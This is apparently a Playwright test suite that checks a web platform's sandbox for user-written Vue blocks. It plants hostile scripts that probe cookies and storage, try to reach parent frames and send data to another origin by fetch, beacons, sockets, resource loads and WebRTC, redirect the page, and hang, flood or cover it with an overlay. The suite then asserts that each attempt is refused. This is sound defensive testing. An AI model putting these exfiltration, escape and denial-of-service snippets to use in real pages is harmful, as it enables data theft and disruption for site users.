import { chromium, expect, type FrameLocator, type Page } from '@playwright/test'
import { type Elsewhere, fence, openElsewhere } from './support/elsewhere.ts'
import { startEnvironment, type TestEnvironment } from './support/environment.ts'
import { enter } from './support/site.ts'
import { test } from './support/test.ts'
import { openWatchedChromium } from './support/watchedChromium.ts'

let site: TestEnvironment
let elsewhere: Elsewhere
let person: { email: string; password: string }

/** Notes what became of each thing that it tries, and shows it. */
const trying = `
import { reactive } from 'vue'
const told = reactive([])
async function tries(name, work) {
  try {
    const value = await work()
    told.push(name + ': ' + (value === undefined ? 'hecho' : String(value)))
  } catch (error) {
    told.push(name + ': ' + error.name)
  }
}
`
const shown = '<ul><li v-for="line in told">{{ line }}</li></ul><p v-if="told.at(-1) === \'fin: hecho\'">Terminado</p>'

/** The block is drawn first, and tries its things then. */
const spy = `${trying}
setTimeout(async () => {
  await tries('cookies', () => document.cookie)
  await tries('localStorage', () => localStorage.length)
  await tries('sessionStorage', () => sessionStorage.length)
  await tries('indexedDB', () => new Promise((done, failed) => {
    const asked = indexedDB.open('x')
    asked.onsuccess = () => done('open')
    asked.onerror = () => failed(asked.error)
  }))
  await tries('caches', () => caches.open('x'))
  await tries('origin', () => origin)
  await tries('page', () => top.document.title)
  await tries('parent', () => parent.document.title)
  await tries('session', () => top.localStorage.length)
  await tries('neighbour', () => [...Array(top.length).keys()].map(at => top[at][0]).filter(frame => frame !== self).map(frame => frame.document.title))
  await tries('window', () => String(open('about:blank')))
  await tries('top', () => { top.location = 'about:blank' })
  await tries('between', () => { parent.location = 'about:blank' })
  await tries('alert', () => { alert('x') })
  await tries('eval', () => eval('1'))
  await tries('Function', () => new Function('return 1')())
  await tries('worker', () => new Promise((done, failed) => {
    const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])))
    worker.onmessage = () => done('runs')
    worker.onerror = () => failed(new DOMException('', 'refused'))
  }))
  await tries('position', () => new Promise((done, failed) => navigator.geolocation.getCurrentPosition(done, () => failed(new DOMException('', 'refused')))))
  await tries('peers', () => typeof RTCPeerConnection)
  await tries('peers of a frame', () => {
    const frame = document.body.appendChild(document.createElement('iframe'))
    return typeof frame.contentWindow.RTCPeerConnection
  })
  await tries('navigate', () => telar.navigate('/otra'))
  await tries('dialog', () => telar.alert('Pague aquí'))
  await tries('no call', () => telar.call('borrar'))
  await tries('fin', () => {})
}, 0)`

const nothing = [
  'cookies: SecurityError',
  'localStorage: SecurityError',
  'sessionStorage: SecurityError',
  'indexedDB: SecurityError',
  'caches: SecurityError',
  'origin: null',
  'page: SecurityError',
  'parent: SecurityError',
  'session: SecurityError',
  'neighbour: SecurityError',
  'window: null',
  'top: SecurityError',
  'between: SecurityError',
  'alert: hecho',
  'eval: EvalError',
  'Function: EvalError',
  'worker: refused',
  'position: refused',
  'peers: undefined',
  'peers of a frame: SecurityError',
  'navigate: BlockError',
  'dialog: BlockError',
  'no call: BlockError',
  'fin: hecho',
]

/** Everything that sends something to another origin without leaving the frame. */
const leak = ({ url, host, packetHost }: Elsewhere) => `${trying}
const add = (tag, properties) => document.body.appendChild(Object.assign(document.createElement(tag), properties))
setTimeout(async () => {
  await tries('fetch', () => fetch('${url}/fetch'))
  await tries('request', () => { const x = new XMLHttpRequest(); x.open('POST', '${url}/xhr', false); x.send('x') })
  await tries('beacon', () => navigator.sendBeacon('${url}/beacon', 'x'))
  await tries('socket', () => new Promise((done, failed) => { const s = new WebSocket('ws://${host}/socket'); s.onopen = done; s.onerror = () => failed(new DOMException('', 'refused')) }))
  await tries('events', () => new Promise((done, failed) => { const s = new EventSource('${url}/events'); s.onopen = done; s.onerror = () => failed(new DOMException('', 'refused')) }))
  // What a block may not be written with, it can still make while it runs.
  await tries('module', () => { add('script', { src: URL.createObjectURL(new Blob(['import("${url}/module.js").catch(() => {})'], { type: 'text/javascript' })) }) })
  for (const tag of ['img', 'script', 'iframe', 'embed', 'video', 'audio']) await tries(tag, () => { add(tag, { src: '${url}/' + tag }) })
  await tries('object', () => { add('object', { data: '${url}/object' }) })
  for (const rel of ['stylesheet', 'prefetch', 'preload', 'modulepreload', 'icon', 'manifest'])
    await tries(rel, () => { document.head.append(Object.assign(document.createElement('link'), { rel, as: 'image', href: '${url}/' + rel })) })
  await tries('styles', () => { add('style', { textContent: '@import "${url}/import"; body { background: url(${url}/css) } @font-face { font-family: x; src: url(${url}/font) } body { font-family: x }' }) })
  await tries('ping', () => { add('a', { href: '#x', ping: '${url}/ping' }).click() })
  await tries('link', () => { add('a', { href: '${url}/link', textContent: 'x' }).click() })
  await tries('form', () => { add('form', { action: '${url}/form', method: 'post' }).submit() })
  await tries('inner', () => { add('iframe', { srcdoc: '<img src="${url}/inner"><script>fetch("${url}/inner-fetch")</' + 'script>' }) })
  await tries('packets', async () => {
    const line = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${packetHost}' }] })
    line.createDataChannel('x')
    await line.setLocalDescription(await line.createOffer())
  })
  await tries('rules', () => { add('script', { type: 'speculationrules', textContent: '{"prefetch":[{"source":"list","urls":["${url}/rules"]}]}' }) })
  await tries('fin', () => {})
}, 0)`

/** Ways of a frame to go elsewhere, each of which ends the block. */
const escapes: Record<string, (url: string) => string> = {
  location: url => `location.href = '${url}/location'`,
  replace: url => `location.replace('${url}/replace')`,
  meta: url =>
    `document.head.insertAdjacentHTML('beforeend', '<meta http-equiv="refresh" content="0;url=${url}/meta">')`,
  player: () => `location.href = 'https://www.youtube-nocookie.com/embed/x'`,
  own: () => `location.href = '/contadores?leak=x'`,
}

async function place(name: string, script: string, template = shown, more: Record<string, unknown> = {}) {
  const vueBlockId = await site.create('vueBlock', { name, template, script, ...more })
  return { type: 'vueBlock', vueBlockId, sizeSmall: 12, sizeLarge: 6 }
}

const steady = 'import { ref } from "vue"\nconst count = ref(0)'
const steadyLook = '<button @click="count++">Tranquilo {{ count }}</button>'

test.beforeAll(async () => {
  ;[site, elsewhere] = await Promise.all([startEnvironment(), openElsewhere()])
  const quiet = await place('Tranquilo', steady, steadyLook)
  const pages: Record<string, Awaited<ReturnType<typeof place>>[]> = {
    '/espia': [await place('Espía', spy), quiet],
    '/fuga': [await place('Fuga', leak(elsewhere))],
    '/salida': [
      quiet,
      ...(await Promise.all(
        Object.entries(escapes).map(([name, script]) => place(`Salida ${name}`, script(elsewhere.url), '<p>aquí</p>')),
      )),
    ],
    '/trompo': [
      await place(
        'Trompo',
        'function spin() { setTimeout(() => { for (;;); }, 500) }',
        '<button @click="spin">Girar</button>',
      ),
      quiet,
    ],
    '/gloton': [
      await place(
        'Glotón',
        'const kept = []\nfunction eat() { setInterval(() => { for (let n = 0; n < 50; n++) kept.push(new Array(100000).fill(n + 0.5)) }, 0) }',
        '<button @click="eat">Comer</button>',
      ),
      quiet,
    ],
    '/avalancha': [
      await place(
        'Avalancha',
        'function flood() { const send = () => { for (let n = 0; n < 1000; n++) telar.snackbar("x").catch(() => {}) }; setInterval(send, 0) }',
        '<button @click="flood">Inundar</button>',
      ),
      quiet,
    ],
    '/tapa': [
      quiet,
      await place(
        'Tapa',
        'import { ref } from "vue"\nconst lines = ref(1)\nsetInterval(() => { lines.value *= 2; if (lines.value > 100000) lines.value = 100000 }, 50)\nsetInterval(() => document.querySelector(".x").focus(), 20)',
        '<div class="over" tabindex="0"></div><input class="x"><div :style="{ height: lines + \'px\' }"></div>',
        { style: '.over { position: fixed; inset: -5000px; z-index: 2147483647; background: rgb(255, 0, 0) }' },
      ),
    ],
  }
  for (const [path, items] of Object.entries(pages)) await site.create('view', { name: path, path, items })
  await site.create('view', { name: 'Otra', path: '/otra', items: [] })
  person = await site.member('ana@example.com')
})
test.afterAll(async () => {
  await site.close()
  await elsewhere.close()
})

const frame = (page: Page, title: string) => page.getByTitle(title, { exact: true })
const inside = (page: Page, title: string): FrameLocator => frame(page, title).contentFrame().frameLocator('iframe')
const notice = (page: Page, text: string) => page.getByRole('alert').filter({ hasText: text })

/** The other block of the page and the page itself are at work. */
async function restWorks(page: Page) {
  const button = inside(page, 'Tranquilo').getByRole('button')
  const [, count = '0'] = /(\d+)/.exec((await button.textContent()) ?? '') ?? []
  await button.click()
  await expect(button).toHaveText(`Tranquilo ${Number(count) + 1}`)
  await page.getByRole('button', { name: /ana/i }).first().click()
  await page.keyboard.press('Escape')
}

test('a hostile block reads nothing, opens nothing and does nothing that nobody asked for', async ({ page }) => {
  await enter(page, `${site.url}/espia`, person)
  const block = inside(page, 'Espía')
  await expect(block.getByText('Terminado')).toBeVisible()
  expect(await block.locator('li').allInnerTexts()).toEqual(nothing)
  await expect(page).toHaveURL(`${site.url}/espia`)
  await expect(page.getByRole('dialog')).toHaveCount(0)
  expect(page.context().pages()).toHaveLength(1)
  await restWorks(page)
})

test('a hostile block sends nothing to another origin', async ({ page }) => {
  await enter(page, `${site.url}/fuga`, person)
  await expect(inside(page, 'Fuga').getByText('Terminado')).toBeVisible()
  const told = await inside(page, 'Fuga').locator('li').allInnerTexts()
  expect(told).toContain('fetch: TypeError')
  expect(told).toContain('socket: refused')
  expect(told).toContain('packets: ReferenceError')
  // What could still be under way has reached it before this.
  await elsewhere.fence()
  expect(elsewhere.reached()).toEqual(fence)
})

test('a hostile block goes nowhere, and the page stays', async ({ page }) => {
  const before = elsewhere.reached().length
  await enter(page, `${site.url}/salida`, person)
  const refused = () => page.frames().filter(one => one.url().startsWith('chrome-error:')).length
  await expect.poll(refused).toBe(Object.keys(escapes).length)
  await elsewhere.fence()
  expect(elsewhere.reached().slice(before)).toEqual(fence)
  await expect(page).toHaveURL(`${site.url}/salida`)
  await restWorks(page)
  // It does not answer any more, and says so.
  await expect(notice(page, 'Este contenido no responde.')).toHaveCount(Object.keys(escapes).length)
})

test('a block that spins for ever stops itself alone, and is restarted or closed', async ({ page }) => {
  await enter(page, `${site.url}/trompo`, person)
  const spin = inside(page, 'Trompo').getByRole('button', { name: 'Girar' })
  const press = async () => {
    await spin.click({ trial: true })
    // A frame that spins answers nothing any more: this way it is not asked what the press met.
    await spin.click({ force: true })
  }
  await press()
  await restWorks(page)
  await expect(notice(page, 'Este contenido no responde.')).toBeVisible()
  await restWorks(page)
  await page.getByRole('button', { name: 'Reiniciar' }).click()
  await expect(notice(page, 'Este contenido no responde.')).toHaveCount(0)
  await press()
  await expect(notice(page, 'Este contenido no responde.')).toBeVisible()
  await page.getByRole('button', { name: 'Cerrar' }).click()
  await expect(page.getByText('Contenido cerrado.')).toBeVisible()
  await expect(frame(page, 'Trompo')).toHaveCount(0)
  await restWorks(page)
})

test('a block that floods the page with messages is cut off, and can be started again', async ({ page }) => {
  await enter(page, `${site.url}/avalancha`, person)
  await inside(page, 'Avalancha').getByRole('button', { name: 'Inundar' }).click()
  await expect(notice(page, 'Este contenido pidió demasiado y se detuvo.')).toBeVisible()
  await expect(frame(page, 'Avalancha')).toHaveCount(0)
  await restWorks(page)
  await page.getByRole('button', { name: 'Reiniciar' }).click()
  await expect(inside(page, 'Avalancha').getByRole('button', { name: 'Inundar' })).toBeVisible()
})

test('a block draws nowhere but in its frame and grows within bounds, however often it takes the focus', async ({
  page,
}) => {
  await enter(page, `${site.url}/tapa`, person)
  const box = async () => (await frame(page, 'Tapa').boundingBox())?.height
  await expect.poll(box).toBe(4_000)
  const other = inside(page, 'Tranquilo').getByRole('button')
  await other.click()
  await expect(other).toHaveText('Tranquilo 1')
  await restWorks(page)
})

test('a block that eats memory for ever loses its own process', async () => {
  const url = `${site.url}/gloton`
  const browser = await openWatchedChromium(['--js-flags=--max-old-space-size=256'])
  try {
    const followed = await chromium.connectOverCDP(browser.endpoint)
    const [page] = followed.contexts().flatMap(context => context.pages())
    if (!page) throw new Error('Chromium opened no page')
    await enter(page, url, person)
    const { x = 0, y = 0 } = (await inside(page, 'Glotón').getByRole('button', { name: 'Comer' }).boundingBox()) ?? {}
    await followed.close()
    const watched = await browser.watch(url)
    watched.press(x + 5, y + 5)
    await watched.crashed
    const alerts = () =>
      watched.evaluate(`[...document.querySelectorAll('[role=alert]')].map(one => one.textContent).join()`)
    await expect.poll(alerts).toContain('Este contenido no responde.')
    await watched.evaluate(
      `[...document.querySelectorAll('button')].find(one => one.textContent === 'Reiniciar').click()`,
    )
    await expect.poll(alerts).toBe('')
  } finally {
    await browser.close()
  }
})
